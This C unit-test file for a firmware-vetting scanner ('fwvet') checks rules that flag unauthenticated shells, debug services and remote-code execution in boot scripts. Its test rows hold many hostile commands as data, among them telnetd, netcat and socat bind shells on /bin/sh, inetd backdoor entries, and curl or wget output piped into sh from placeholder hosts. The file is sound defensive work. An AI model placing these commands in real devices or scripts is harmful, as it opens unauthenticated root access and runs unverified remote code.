/*
 * The services analyser (service.unauthenticated-shell, service.debug,
 * script.remote-code): one row per case, each file written at its place in
 * a small root file system and scanned through fwvet_scan_run.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "fwvet/fwvet.h"

#define SH "service.unauthenticated-shell"
#define DBG "service.debug"
#define RC "script.remote-code"

static const struct {
  const char *path; /* inside the root, no leading slash */
  const char *content;
  const char *want; /* "rule@line,..." of this analyser's rules */
} rows[] = {
    /* --- service.unauthenticated-shell --- */
    {"etc/init.d/S50debug", "#!/bin/sh\n# start debug\ntelnetd -l /bin/sh\n",
     SH "@3"},
    {"etc/init.d/rcS", "#!/bin/sh\n/usr/sbin/telnetd -p 2323 -l/bin/sh &\n",
     SH "@2"},
    {"etc/rc.local", "busybox telnetd -l /bin/sh\nexit 0\n", SH "@1"},
    {"etc/init.d/S1utel", "#!/bin/sh\nutelnetd -l /bin/sh -d\n", SH "@2"},
    {"etc/init.d/S2", "#!/bin/sh\n/usr/sbin/telnetd \\\n   -l /bin/sh\n",
     SH "@2"},
    {"etc/init.d/S3", "#!/bin/sh\nsh -c 'telnetd -l /bin/sh'\n", SH "@2"},
    {"etc/init.d/S4",
     "start-stop-daemon -S -b -x /usr/sbin/telnetd -- -l /bin/sh\n", SH "@1"},
    {"usr/bin/dbg.sh",
     "#!/bin/sh\nwhile true; do\n  nc -l -p 4444 -e /bin/sh\ndone\n", SH "@3"},
    {"etc/init.d/S99nc", "#!/bin/sh\nnc -l -p 1234 -e sh &\n", SH "@2"},
    {"etc/init.d/S99socat",
     "#!/bin/sh\nsocat tcp-listen:4444,reuseaddr,fork exec:/bin/sh,pty\n",
     SH "@2"},
    {"etc/init.d/S98socat", "#!/bin/sh\nsocat TCP-LISTEN:23,fork SYSTEM:sh\n",
     SH "@2"},
    {"etc/init.d/S97pipe",
     "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\n"
     "cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1234 > /tmp/f\n",
     SH "@3"},
    {"etc/init.d/S96svd", "tcpsvd -vE 0.0.0.0 1337 /bin/sh -i &\n", SH "@1"},
    {"etc/inetd.conf", "# inetd\nshell stream tcp nowait root /bin/sh sh -i\n",
     SH "@2"},
    {"etc/inetd.conf",
     "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i -l "
     "/bin/sh\n",
     SH "@1"},
    /* inetd.conf recognised by content */
    {"etc/inet.alt", "backdoor\tstream\ttcp\tnowait\troot\t/bin/sh\tsh\n",
     SH "@1"},
    {"etc/inittab",
     "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
     SH "@2"},
    {"lib/systemd/system/dbg.service",
     "[Unit]\nDescription=x\n\n[Service]\n"
     "ExecStart=/usr/sbin/telnetd -F -l /bin/sh\n",
     SH "@5"},
    {"lib/systemd/system/rsh@.service",
     "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n", SH "@2"},
    {"etc/crontab",
     "SHELL=/bin/sh\n*/5 * * * * root nc -l -p 1234 -e /bin/sh\n", SH "@2"},
    {"var/spool/cron/crontabs/root", "@reboot telnetd -l /bin/sh\n", SH "@1"},
    {"www/cgi-bin/debug.cgi",
     "#!/bin/sh\necho \"Content-type: text/plain\"\necho\n"
     "/usr/sbin/telnetd -l /bin/sh -p 9999\n",
     SH "@4"},
    {"www/cgi-bin/luci-dbg",
     "#!/usr/bin/lua\nos.execute(\"telnetd -l /bin/sh &\")\n", SH "@2"},
    /* not a shell, not started, or only talked about */
    {"etc/init.d/S98proxy",
     "#!/bin/sh\nsocat tcp-listen:80,fork tcp:10.0.0.1:8080\n", ""},
    {"etc/init.d/S10say",
     "#!/bin/sh\necho \"run: telnetd -l /bin/sh\"\n# telnetd -l /bin/sh\n"
     "killall telnetd\n[ -x /usr/sbin/telnetd ] || exit 0\n"
     "command -v telnetd >/dev/null\n",
     ""},
    {"etc/init.d/S11stop",
     "#!/bin/sh\nstart-stop-daemon -K -x /usr/sbin/telnetd\n", ""},
    {"usr/share/doc/howto/README",
     "To debug, run telnetd -l /bin/sh on the device.\n", ""},
    {"etc/init.d/S12nc", "#!/bin/sh\nnc -l -p 5000 > /tmp/upload\n", ""},
    {"etc/inetd.conf",
     "ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w /srv\n", ""},

    /* --- service.debug --- */
    {"etc/init.d/S50telnet", "#!/bin/sh\ntelnetd -l /bin/login\n", DBG "@2"},
    {"etc/init.d/telnet",
     "#!/bin/sh /etc/rc.common\nstart_service() {\n"
     "\tprocd_open_instance\n"
     "\tprocd_set_param command /usr/sbin/telnetd -F -l /bin/login.sh\n"
     "\tprocd_close_instance\n}\n",
     DBG "@4"},
    {"etc/inetd.conf",
     "telnet\t\tstream\ttcp\tnowait\ttelnetd\t/usr/sbin/tcpd\t"
     "/usr/sbin/in.telnetd\n",
     DBG "@1"},
    {"etc/init.d/S60tftp", "#!/bin/sh\nudpsvd -vE 0 69 tftpd -c /srv &\n",
     DBG "@2"},
    {"etc/init.d/S61gdb", "gdbserver :2345 /usr/bin/app &\n", DBG "@1"},
    {"etc/init.d/S62adb", "#!/bin/sh\n/sbin/adbd &\n", DBG "@2"},
    /* OpenWrt before procd: service_start from /lib/functions/service.sh */
    {"etc/init.d/telnet.old",
     "#!/bin/sh /etc/rc.common\nstart() {\n"
     "\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n}\n",
     DBG "@3"},
    {"etc/init.d/S63ssh", "#!/bin/sh\ndropbear -R -B -p 22\n", DBG "@2"},
    {"etc/inittab",
     "::sysinit:/etc/init.d/rcS\nttyS0::respawn:-/bin/sh\n"
     "::askfirst:/bin/sh\n",
     DBG "@2," DBG "@3"},
    {"etc/inittab",
     "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100 -n -l /bin/sh\n",
     DBG "@1"},
    {"etc/inittab", "ttyS0::respawn:/bin/login -f root\n", DBG "@1"},
    {"lib/systemd/system/serial-getty@ttyS0.service",
     "[Service]\nExecStart=-/sbin/agetty --autologin root --noclear %I "
     "$TERM\n",
     DBG "@2"},
    /* normal consoles and daemons */
    {"etc/inittab",
     "::sysinit:/bin/sh /etc/init.d/rcS\n"
     "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
     "::shutdown:/bin/umount -a -r\n",
     ""},
    {"etc/init.d/S63ssh2", "#!/bin/sh\ndropbear -R -p 22\n", ""},
    /* Debian's sysvinit inittab */
    {"etc/inittab",
     "id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\n"
     "~~:S:wait:/sbin/sulogin --force\n"
     "l0:0:wait:/etc/init.d/rc 0\nl2:2:wait:/etc/init.d/rc 2\n"
     "z6:6:respawn:/sbin/sulogin --force\n"
     "ca:12345:ctrlaltdel:/sbin/shutdown -t1 -a -r now\n"
     "pf::powerwait:/etc/init.d/powerfail start\n"
     "1:2345:respawn:/sbin/getty --noclear 38400 tty1\n"
     "#T0:23:respawn:/sbin/getty -L ttyS0 9600 vt100\n",
     ""},
    /* Debian's systemd units: the serial getty and the (disabled by
     * default) debug shell on tty9 */
    {"lib/systemd/system/serial-getty@.service",
     "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud "
     "115200,57600,38400,9600 - $TERM\nType=idle\n",
     ""},
    {"lib/systemd/system/debug-shell.service",
     "[Unit]\nDescription=Early root shell on /dev/tty9 FOR DEBUGGING ONLY\n"
     "[Service]\nEnvironment=TERM=linux\nExecStart=/bin/sh\n"
     "Restart=always\nStandardInput=tty\nTTYPath=/dev/tty9\n",
     ""},

    /* --- script.remote-code --- */
    {"etc/init.d/S70upd",
     "#!/bin/sh\nwget -qO- http://update.example.com/x.sh | sh\n", RC "@2"},
    {"etc/cron.d/upd",
     "0 3 * * * root curl -fsSL https://example.com/i.sh | bash\n", RC "@1"},
    {"usr/sbin/fetch-and-run",
     "#!/bin/sh\ncd /tmp\nwget -O /tmp/upd http://10.0.0.1/upd\n"
     "chmod +x /tmp/upd\n/tmp/upd\n",
     RC "@3"},
    {"usr/sbin/tftp-run",
     "#!/bin/sh\ntftp -g -r payload.sh 192.168.1.2 && sh payload.sh\n",
     RC "@2"},
    {"usr/sbin/subst",
     "#!/bin/sh\nsh -c \"$(curl -fsSL http://x.example/i)\"\n", RC "@2"},
    {"usr/sbin/evalw",
     "#!/bin/bash\neval \"$(wget -qO- http://x.example/e)\"\n", RC "@2"},
    {"usr/sbin/ftp-run",
     "#!/bin/sh\nftpget 10.0.0.9 /tmp/p.sh p.sh\n. /tmp/p.sh\n", RC "@2"},
    /* verified, TLS to a file, data only, or too far apart */
    {"usr/sbin/verified",
     "#!/bin/sh\nwget -O /tmp/fw.sh http://x.example/fw.sh\n"
     "usign -V -m /tmp/fw.sh -p /etc/opkg/keys/k || exit 1\nsh /tmp/fw.sh\n",
     ""},
    {"usr/sbin/tls-file",
     "#!/bin/sh\nwget -O /tmp/fw.sh https://x.example/fw.sh\nsh /tmp/fw.sh\n",
     ""},
    {"usr/sbin/data-only",
     "#!/bin/sh\nwget -O /tmp/list http://x.example/list\ncat /tmp/list\n", ""},
    {"usr/sbin/far",
     "#!/bin/sh\nwget -O /tmp/x http://x.example/x\n\n:\n:\n:\n:\n:\n:\n:\n:\n"
     ":\n:\n:\nsh /tmp/x\n",
     ""},
    {"usr/sbin/json",
     "#!/bin/sh\ncurl -s http://127.0.0.1/status | python3 -m json.tool\n"
     "wget -qO- http://x.example/a | sh -c 'cat > /tmp/a'\n"
     "curl -s http://x.example/s | perl -e 'print <STDIN>'\n",
     ""},
    {"usr/sbin/stdin-sh",
     "#!/bin/sh\ncurl -s http://x.example/s | sh -s -- --yes\n", RC "@2"},
    {"usr/share/doc/install.txt",
     "Install with: curl -fsSL http://x.example/i.sh | sh\n", ""},
};

static int mine(const char *rule) {
  return !strncmp(rule, "service.", 8) || !strncmp(rule, "script.", 7) ||
         !strncmp(rule, "backdoor.", 9);
}

static void write_file(const char *root, const char *rel, const char *data,
                       size_t len) {
  char path[1024];
  snprintf(path, sizeof path, "%s/%s", root, rel);
  for (char *p = path + strlen(root) + 1; (p = strchr(p, '/')); p++) {
    *p = 0;
    mkdir(path, 0755);
    *p = '/';
  }
  FILE *f = fopen(path, "wb");
  assert_non_null(f);
  assert_int_equal(fwrite(data, 1, len, f), len);
  fclose(f);
}

static void rm_tree(const char *root) {
  char cmd[1100];
  snprintf(cmd, sizeof cmd, "rm -rf '%s'", root);
  assert_int_equal(system(cmd), 0);
}

/* Scans `root`; writes this analyser's findings as "rule@line,...". */
static void scan_mine(const char *root, char *got, size_t cap,
                      const char *fspath) {
  fwvet_scan *scan = NULL;
  assert_int_equal(fwvet_scan_run(root, NULL, &scan), FWVET_OK);
  size_t o = 0;
  got[0] = 0;
  for (size_t i = 0; i < fwvet_scan_finding_count(scan); i++) {
    const fwvet_finding *fd = fwvet_scan_finding(scan, i);
    if (!mine(fd->rule))
      continue;
    if (o < cap)
      o += (size_t)snprintf(got + o, cap - o, "%s%s@%u", o ? "," : "", fd->rule,
                            fd->line);
    assert_non_null(fd->evidence);
    assert_true(strlen(fd->evidence) > 0);
    assert_int_equal(strlen(fd->fingerprint), 32);
    if (fspath)
      assert_string_equal(fd->fspath, fspath);
    else
      print_message("  %s %s:%u %s [%s]\n", fd->rule, fd->fspath, fd->line,
                    fd->message, fd->evidence);
  }
  fwvet_scan_destroy(scan);
}

static void test_rows(void **state) {
  int bad = 0;
  for (size_t r = 0; r < sizeof rows / sizeof *rows; r++) {
    char root[] = "/tmp/fwvet-svc-XXXXXX", fspath[512], got[1024];
    assert_non_null(mkdtemp(root));
    write_file(root, rows[r].path, rows[r].content, strlen(rows[r].content));
    snprintf(fspath, sizeof fspath, "/%s", rows[r].path);
    scan_mine(root, got, sizeof got, fspath);
    if (strcmp(got, rows[r].want) != 0) {
      print_error("row %zu (%s): got '%s', want '%s'\n", r, rows[r].path, got,
                  rows[r].want);
      bad++;
    }
    rm_tree(root);
  }
  assert_int_equal(bad, 0);
}

/*
 * Scripts without a shebang found because boot code runs them: a file
 * that inittab, a unit or an init script names (any order of analysis),
 * and the same file when nothing names it.
 */
static const struct {
  const char *what;
  const char *from, *from_content; /* the referencing file */
  const char *path, *content;      /* the script, no leading slash */
  const char *want;                /* "rule@fspath:line,..." */
} referenced[] = {
    {"inittab runs it", "etc/inittab", "::sysinit:/opt/start\n", "opt/start",
     "echo hi\ntelnetd -l /bin/sh\n", SH "@/opt/start:2"},
    {"inittab runs it through sh", "etc/inittab",
     "::once:/bin/sh -x /opt/start.txt\n", "opt/start.txt",
     "echo hi\nwget -O - http://x.example/a | sh\n", RC "@/opt/start.txt:2"},
    {"a unit runs it", "etc/systemd/system/d.service",
     "[Unit]\nDescription=d\n[Service]\nExecStart=-/usr/libexec/dbg --now\n",
     "usr/libexec/dbg", "echo hi\nnc -l -p 23 -e /bin/sh\n",
     SH "@/usr/libexec/dbg:2"},
    {"an init script runs it", "etc/init.d/S99x",
     "#!/bin/sh\n/opt/x.cfg start\n", "opt/x.cfg",
     "echo hi\ntelnetd -l /bin/sh\n", SH "@/opt/x.cfg:2"},
    {"nothing runs it", "etc/inittab", "::sysinit:/opt/other\n", "opt/start",
     "echo hi\ntelnetd -l /bin/sh\n", ""},
    {"a relative path is not followed", "etc/inittab", "::sysinit:opt/start\n",
     "opt/start", "echo hi\ntelnetd -l /bin/sh\n", ""},
    {"documentation is not kept", "etc/inittab",
     "::sysinit:/usr/share/doc/x/start\n", "usr/share/doc/x/start",
     "echo hi\ntelnetd -l /bin/sh\n", ""},
    {"a shebang script is analysed once", "etc/inittab",
     "::sysinit:/opt/start\n", "opt/start", "#!/bin/sh\ntelnetd -l /bin/sh\n",
     SH "@/opt/start:2"},
    {"the reference's own finding too", "etc/inittab",
     "::sysinit:/opt/s\nttyS0::respawn:/bin/sh\n", "opt/s", "echo\ntftpd\n",
     DBG "@/etc/inittab:2," DBG "@/opt/s:2"},
};

static void test_referenced(void **state) {
  int bad = 0;
  for (size_t r = 0; r < sizeof referenced / sizeof *referenced; r++) {
    char root[] = "/tmp/fwvet-svc-XXXXXX", got[1024];
    assert_non_null(mkdtemp(root));
    write_file(root, referenced[r].from, referenced[r].from_content,
               strlen(referenced[r].from_content));
    write_file(root, referenced[r].path, referenced[r].content,
               strlen(referenced[r].content));
    fwvet_scan *scan = NULL;
    assert_int_equal(fwvet_scan_run(root, NULL, &scan), FWVET_OK);
    size_t o = 0;
    got[0] = 0;
    for (size_t i = 0; i < fwvet_scan_finding_count(scan); i++) {
      const fwvet_finding *fd = fwvet_scan_finding(scan, i);
      if (mine(fd->rule) && o < sizeof got)
        o += (size_t)snprintf(got + o, sizeof got - o, "%s%s@%s:%u",
                              o ? "," : "", fd->rule, fd->fspath, fd->line);
    }
    fwvet_scan_destroy(scan);
    if (strcmp(got, referenced[r].want) != 0) {
      print_error("row %zu (%s): got '%s', want '%s'\n", r,
                  referenced[r].what, got, referenced[r].want);
      bad++;
    }
    rm_tree(root);
  }
  assert_int_equal(bad, 0);
}

/* The evidence is the command line with white space collapsed, so the
 * same line re-indented in the next release keeps its fingerprint. */
static void test_fingerprint(void **state) {
  const char *content[3] = {
      "#!/bin/sh\ntelnetd -l /bin/sh\n",
      "#!/bin/sh\n# new release\n\n   telnetd   -l\t/bin/sh\n",
      "#!/bin/sh\ntelnetd -l /bin/ash\n"};
  char fp[3][40];
  for (int k = 0; k < 3; k++) {
    char root[] = "/tmp/fwvet-svc-XXXXXX";
    assert_non_null(mkdtemp(root));
    write_file(root, "etc/init.d/S50dbg", content[k], strlen(content[k]));
    fwvet_scan *scan = NULL;
    assert_int_equal(fwvet_scan_run(root, NULL, &scan), FWVET_OK);
    int n = 0;
    for (size_t i = 0; i < fwvet_scan_finding_count(scan); i++) {
      const fwvet_finding *fd = fwvet_scan_finding(scan, i);
      if (strcmp(fd->rule, SH) != 0)
        continue;
      snprintf(fp[k], sizeof fp[k], "%s", fd->fingerprint);
      n++;
    }
    assert_int_equal(n, 1);
    fwvet_scan_destroy(scan);
    rm_tree(root);
  }
  assert_string_equal(fp[0], fp[1]);
  assert_string_not_equal(fp[0], fp[2]);
}

/* Copies the regular files of host directory `dir` to the same place
 * under `root`; returns how many. */
static size_t copy_dir(const char *root, const char *dir, const char *suffix) {
  DIR *d = opendir(dir);
  size_t n = 0;
  if (!d)
    return 0;
  struct dirent *e;
  while ((e = readdir(d))) {
    char src[1024];
    struct stat st;
    snprintf(src, sizeof src, "%s/%s", dir, e->d_name);
    if (stat(src, &st) != 0 || !S_ISREG(st.st_mode) || st.st_size > 1 << 20)
      continue;
    size_t nl = strlen(e->d_name);
    if (suffix && (nl < strlen(suffix) ||
                   strcmp(e->d_name + nl - strlen(suffix), suffix) != 0))
      continue;
    FILE *f = fopen(src, "rb");
    if (!f)
      continue;
    char *buf = malloc((size_t)st.st_size + 1);
    assert_non_null(buf);
    size_t got = fread(buf, 1, (size_t)st.st_size, f);
    fclose(f);
    write_file(root, src + 1, buf, got);
    free(buf);
    n++;
  }
  closedir(d);
  return n;
}

/* Boot code from this machine's Debian packages gives no finding. */
static void test_debian_clean(void **state) {
  char root[] = "/tmp/fwvet-svc-XXXXXX", got[4096];
  assert_non_null(mkdtemp(root));
  size_t n = copy_dir(root, "/etc/init.d", NULL);
  n += copy_dir(root, "/etc/cron.d", NULL);
  n += copy_dir(root, "/etc/cron.daily", NULL);
  n += copy_dir(root, "/lib/systemd/system", ".service");
  n += copy_dir(root, "/etc/systemd/system", ".service");
  n += copy_dir(root, "/etc/network/if-up.d", NULL);
  const char *single[] = {"/etc/inittab",  "/etc/crontab", "/etc/inetd.conf",
                          "/etc/rc.local", "/etc/profile", NULL};
  for (size_t i = 0; single[i]; i++) {
    FILE *f = fopen(single[i], "rb");
    if (!f)
      continue;
    char buf[65536];
    size_t len = fread(buf, 1, sizeof buf, f);
    fclose(f);
    write_file(root, single[i] + 1, buf, len);
    n++;
  }
  print_message("  %zu files from this machine\n", n);
  assert_true(n >= 5);
  scan_mine(root, got, sizeof got, NULL);
  assert_string_equal(got, "");
  rm_tree(root);
}

/* Lines built to break the lexer: deep substitutions, huge pipelines,
 * endless continuations, unterminated quotes, too many words.  The scan
 * must finish and stay in bounds (run it under ASan); a command past the
 * line cap is not seen, one at the start still is. */
static void test_hostile(void **state) {
  static const char *const units[] = {"$(",       "a | ", "\\\n", "'x",
                                      "\"a b\" ", "`",    "x ",   "${",
                                      "2>&",      "((",   ");"};
  for (size_t u = 0; u < sizeof units / sizeof *units; u++) {
    char root[] = "/tmp/fwvet-svc-XXXXXX", got[256];
    assert_non_null(mkdtemp(root));
    size_t ul = strlen(units[u]), n = 200000 / ul, o = 0;
    char *buf = malloc(n * ul + 64);
    assert_non_null(buf);
    o += (size_t)snprintf(buf, 64, "#!/bin/sh\ntelnetd -l /bin/sh ; ");
    for (size_t i = 0; i < n; i++, o += ul)
      memcpy(buf + o, units[u], ul);
    write_file(root, "etc/init.d/S00hostile", buf, o);
    free(buf);
    scan_mine(root, got, sizeof got, "/etc/init.d/S00hostile");
    if (strncmp(got, SH "@2", strlen(SH "@2")) != 0)
      fail_msg("unit '%s': got '%s'", units[u], got);
    rm_tree(root);
  }
}

/* Command lines built into executables (system("telnetd -l /bin/sh")):
 * reported with their offset; daemon names alone are not. */
static void test_binary(void **state) {
  static const struct {
    const char *tail; /* appended to a copy of /bin/true */
    const char *want;
  } bins[] = {
      {"\0/usr/sbin/telnetd -l /bin/sh -p 2323 &\0", SH "@0"},
      {"\0nc -l -p %d -e /bin/sh\0", SH "@0"},
      {"\0telnetd\0tftpd\0gdbserver :%d %s\0/bin/sh\0", ""},
      {"\0telnetd -l /bin/login -p %d\0", ""},
  };
  for (size_t b = 0; b < sizeof bins / sizeof *bins; b++) {
    char root[] = "/tmp/fwvet-svc-XXXXXX", got[256];
    assert_non_null(mkdtemp(root));
    FILE *f = fopen("/bin/true", "rb");
    assert_non_null(f);
    static char buf[1 << 20];
    size_t n = fread(buf, 1, sizeof buf - 256, f);
    fclose(f);
    size_t tl = 0;
    while (bins[b].tail[tl] || bins[b].tail[tl + 1])
      tl++; /* up to the double NUL */
    memcpy(buf + n, bins[b].tail, tl + 1);
    write_file(root, "www/cgi-bin/debug", buf, n + tl + 1);
    scan_mine(root, got, sizeof got, "/www/cgi-bin/debug");
    if (strcmp(got, bins[b].want) != 0)
      fail_msg("binary %zu: got '%s', want '%s'", b, got, bins[b].want);
    rm_tree(root);
  }
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_rows),         cmocka_unit_test(test_fingerprint),
      cmocka_unit_test(test_debian_clean), cmocka_unit_test(test_hostile),
      cmocka_unit_test(test_binary),       cmocka_unit_test(test_referenced),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
